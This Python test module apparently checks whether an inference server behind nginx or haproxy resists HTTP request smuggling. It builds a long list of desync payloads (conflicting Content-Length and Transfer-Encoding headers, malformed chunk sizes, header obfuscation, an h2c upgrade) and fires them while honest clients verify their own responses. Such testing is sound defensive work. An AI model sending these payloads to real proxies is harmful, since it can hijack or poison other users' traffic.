"""Requests of which a proxy and the server may see different ends, beside a client of the same proxy."""

import json
import socket
import threading
import time
from collections import Counter
from collections.abc import Sequence
from contextlib import suppress
from http.client import HTTPConnection

from benchmarks.attack.attack import AimMissedError, Attack, Target

_PATH = "/v2/models/doubled/infer"
_CLIENTS = 4


def _body(number: int) -> bytes:
    tensor = {"name": "x", "datatype": "FP64", "shape": [1], "data": [number]}
    return json.dumps({"inputs": [tensor]}).encode()


def _requests() -> Sequence[bytes]:
    """Return raw requests. Each contains a second one, which asks for 666."""
    inner = _body(666)
    hidden = f"POST {_PATH} HTTP/1.1\r\nHost: a\r\nContent-Length: {len(inner)}\r\n\r\n".encode() + inner
    start = f"POST {_PATH} HTTP/1.1\r\nHost: a\r\n".encode()
    size = f"Content-Length: {len(hidden)}\r\n".encode()
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
    end = b"0\r\n\r\n"
    te = b"Transfer-Encoding: chunked\r\n"
    fields = (
        size + te,
        te + b"Content-Length: 4\r\n",
        size + b"Content-Length: 0\r\n",
        b"Content-Length: 0, %d\r\n" % len(hidden),
        b"Content-Length: +%d\r\n" % len(hidden),
        b"Content-Length: 0%d\r\n" % len(hidden),
        b"Content-Length: -1\r\n",
        b"Content-Length: 0x10\r\n",
        b"Content-Length : 0\r\n",
        b"Content_Length: 0\r\n" + size,
        b"Transfer-Encoding: xchunked\r\n" + size,
        b"Transfer-Encoding : chunked\r\n" + size,
        b"Transfer-Encoding:\x0bchunked\r\n" + size,
        b"Transfer-Encoding: chunked, identity\r\n" + size,
        b"Transfer-Encoding: identity, chunked\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n" + size,
        b"X: a\rTransfer-Encoding: chunked\r\n" + size,
        b"X: a\nTransfer-Encoding: chunked\r\n" + size,
        b"X: a\r\n Transfer-Encoding: chunked\r\n" + size,
        b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n" + size,
        b"Expect: 100-continue\r\n" + size,
        b"Connection: Content-Length\r\n" + size,
    )
    made = [start + field + b"\r\n" + rest for field in fields for rest in (hidden, end + hidden, chunk + hidden)]
    chunked = start + te + b"\r\n"
    sizes: tuple[bytes, ...] = (b"0;a=\n\r\n\r\n", b"0\n\r\n", b"00000000000000000\r\n\r\n", b"0x0\r\n\r\n")
    sizes += (b"-0\r\n\r\n", b"0 \r\n\r\n")
    made += [
        chunked + each + hidden for each in (*sizes, b"1\r\naX\r\n0\r\n\r\n", b"ffffffffffffffff1\r\na\r\n0\r\n\r\n")
    ]
    get = b"GET /v2/health/live HTTP/1.1\r\nHost: a\r\n"
    made += [get + size + b"\r\n" + hidden, get + te + b"\r\n" + chunk + hidden]
    made += [
        b"GET http://b%s HTTP/1.1\r\nHost: a\r\n\r\n%s" % (_PATH.encode(), hidden),
        b"GET / HTTP/0.9\r\n\r\n" + hidden,
    ]
    return made


def _send(target: Target, request: bytes) -> None:
    with suppress(OSError), socket.create_connection((target.host, target.http_port), 5) as attacker:
        attacker.settimeout(0.5)
        attacker.sendall(request)
        while attacker.recv(1 << 16):
            pass


def _send_all(target: Target, requests: Sequence[bytes]) -> None:
    for request in requests:
        _send(target, request)


def _smuggle(target: Target) -> str:
    """Send every request several times, beside clients that check that each response is the one to their own."""
    requests, stopped = _requests(), threading.Event()
    answers: Counter[str] = Counter()
    clients = [threading.Thread(target=_client, args=(target, n, stopped, answers)) for n in range(_CLIENTS)]
    for client in clients:
        client.start()
    began_s = time.monotonic()
    attackers = [threading.Thread(target=_send_all, args=(target, requests[n::16])) for n in range(16)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()
    stopped.set()
    for client in clients:
        client.join()
    if wrong := {answer: count for answer, count in answers.items() if answer not in ("right", "closed", "502")}:
        raise AimMissedError(f"clients of the same proxy got {wrong}")
    took_s = time.monotonic() - began_s
    return f"{len(requests)} requests in {took_s:.1f} s; others: {answers['right']:,} right responses, none of another"


def _client(target: Target, number: int, stopped: threading.Event, answers: Counter[str]) -> None:
    connection = HTTPConnection(target.host, target.http_port, timeout=60)
    at = 1000 * (number + 1)
    while not stopped.is_set():
        at += 1
        try:
            connection.request("POST", _PATH, _body(at))
            response = connection.getresponse()
            text = response.read()
        except OSError:
            answers["closed"] += 1
            connection.close()
            continue
        is_right = response.status == 200 and json.loads(text)["outputs"][0]["data"] == [2 * at]
        wrong = "502" if response.status == 502 else f"{response.status} {text[:80]!r}"
        answers["right" if is_right else wrong] += 1
    connection.close()


def _attack(front: str) -> Attack:
    return Attack(
        name=f"proxy-{front}",
        about=f"{len(_requests())} ambiguous requests through {front}, whose connections all clients share",
        run=_smuggle,
        front=front,  # type: ignore[arg-type]
        body_bytes=1 << 20,
    )


ATTACKS = (_attack("nginx"), _attack("haproxy"))
